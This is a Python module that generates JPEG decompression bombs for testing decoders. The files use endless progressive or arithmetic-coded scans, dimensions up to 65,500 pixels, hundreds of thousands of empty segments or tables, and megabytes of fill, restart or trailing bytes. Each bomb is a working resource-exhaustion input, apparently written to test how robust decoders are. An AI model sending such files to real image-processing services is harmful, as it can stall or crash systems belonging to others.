"""JPEG: scans without end, sizes that lie, restarts."""

import struct

from bombs.bomb import Bomb, MB


def segment(marker, data=b""):
    return struct.pack(">BBH", 255, marker, len(data) + 2) + data


# One code of one bit for the value that matters: no difference (DC), the end of a block (AC), or a run of blocks to the end.
def huffman(kind, values):
    counts = bytes([min(1, len(values)), max(0, len(values) - 1)] + [0] * 14)
    return segment(0xc4, bytes([kind]) + counts + bytes(values))


QUANTA = segment(0xdb, bytes(65).replace(b"\0", b"\1").replace(b"\1", b"\0", 1))


def frame(marker, width, height, parts, sampling=0x11):
    return segment(marker, struct.pack(">BHHB", 8, height, width, parts) +
                   b"".join(bytes([i + 1, sampling if i == 0 else 0x11, 0]) for i in range(parts)))


def scan(parts, first, last, high=0, low=0):
    return segment(0xda, bytes([len(parts)]) + b"".join(bytes([part, 0]) for part in parts) + bytes([first, last, high << 4 | low]))


def jpeg_progressive(width, height, parts, scans, one=None):
    """A scan of DC, then so many more; a run to the end of the blocks has 32,767 of them in 16 bits,
    and missing data are taken for zeros."""
    head = b"\xff\xd8" + QUANTA + frame(0xc2, width, height, parts) + huffman(0x00, [0]) + huffman(0x10, [0xe0, 0xe0])
    one = one or scan([1], 1, 63, 0, 1) + b"\x3f\xff"
    return head + scan(list(range(1, parts + 1)), 0, 0, 0, 1) + bytes(40) + one * scans + b"\xff\xd9"


def baseline(width, height, parts, data, more=b"", marker=0xc0, sampling=0x11):
    return (b"\xff\xd8" + more + QUANTA + frame(marker, width, height, parts, sampling) + huffman(0x00, [0]) + huffman(0x10, [0]) +
            scan(list(range(1, parts + 1)), 0, 63) + data + b"\xff\xd9")


def scans_of_one(width, height, count):
    """Three parts of one frame, a scan each, over and over."""
    return (b"\xff\xd8" + QUANTA + frame(0xc1, width, height, 3) + huffman(0x00, [0]) + huffman(0x10, [0]) +
            b"".join(scan([1 + i % 3], 0, 63) + bytes(8) for i in range(count)) + b"\xff\xd9")


EXIF = b"Exif\0\0II*\0\x08\0\0\0\xff\xff"

JPEG = [
    Bomb("80 KB, 5,000 progressive scans", lambda: jpeg_progressive(8000, 8000, 1, 5000), 8000 * 8000, says="scans"),
    Bomb("5,000 scans that refine DC",
         lambda: jpeg_progressive(8000, 8000, 1, 5000, scan([1], 0, 0, 1, 0) + bytes(8)), 8000 * 8000, says="scans"),
    Bomb("5,000 scans that refine AC",
         lambda: jpeg_progressive(8000, 8000, 1, 5000, scan([1], 1, 63, 2, 1) + bytes(2)), 8000 * 8000, says="scans"),
    Bomb("4,000 scans of colours", lambda: scans_of_one(4000, 4000, 4000), 3 * 4000 * 4000, says="scans"),
    Bomb("progressive, DC alone", lambda: jpeg_progressive(16000, 16000, 1, 0) + bytes(60000), 16000 * 16000),
    Bomb("progressive colours, DC alone", lambda: jpeg_progressive(8000, 8000, 3, 0) + bytes(60000), 3 * 8000 * 8000),
    Bomb("65,500 rows and columns", lambda: baseline(65500, 65500, 1, bytes(1000))),
    Bomb("progressive, 65,500 rows and columns", lambda: jpeg_progressive(65500, 65500, 3, 3)),
    Bomb("as many pixels as its length may hold, none there",
         lambda: baseline(16000, 16000, 1, b"") + bytes(60000), 16000 * 16000),
    Bomb("as many pixels, all there", lambda: baseline(16000, 16000, 1, bytes(1000002)), 16000 * 16000),
    Bomb("tall, coarse colours", lambda: baseline(1, 65500, 3, bytes(100000), sampling=0x44), 3 * 65500),
    Bomb("500,000 empty APP1", lambda: baseline(8, 8, 1, b"\0", segment(0xe1) * 500000), 64),
    Bomb("30 EXIF blocks of 64 KB", lambda: baseline(8, 8, 1, b"\0", segment(0xe1, EXIF + bytes(65500)) * 30), 64),
    Bomb("500,000 comments", lambda: baseline(8, 8, 1, b"\0", segment(0xfe) * 500000), 64),
    Bomb("100,000 tables", lambda: baseline(8, 8, 1, b"\0", huffman(0, [0]) * 100000), 64),
    Bomb("30,000 tables of quanta", lambda: baseline(8, 8, 1, b"\0", QUANTA * 30000), 64),
    Bomb("2 MB of fill bytes", lambda: baseline(8, 8, 1, b"\0", b"\xff" * 2 * MB), 64),
    Bomb("2 MB of restarts", lambda: baseline(8, 8, 1, b"\xff\xd0" * MB), 64),
    Bomb("2 MB of nothing between segments", lambda: baseline(8, 8, 1, b"\0", bytes(2 * MB)), 64),
    Bomb("4 MB behind the end", lambda: baseline(8, 8, 1, b"\0") + bytes(4 * MB), 64),
    Bomb("arithmetic codes",
         lambda: b"\xff\xd8" + QUANTA + frame(0xca, 8000, 8000, 1) + (scan([1], 0, 0, 0, 1) + bytes(8)) +
                 (scan([1], 1, 63, 0, 1) + bytes(8)) * 3000 + b"\xff\xd9", 8000 * 8000),
    Bomb("arithmetic codes, one scan",
         lambda: b"\xff\xd8" + QUANTA + frame(0xc9, 8000, 8000, 1) + scan([1], 0, 63) + bytes(20000) + b"\xff\xd9", 8000 * 8000),
]
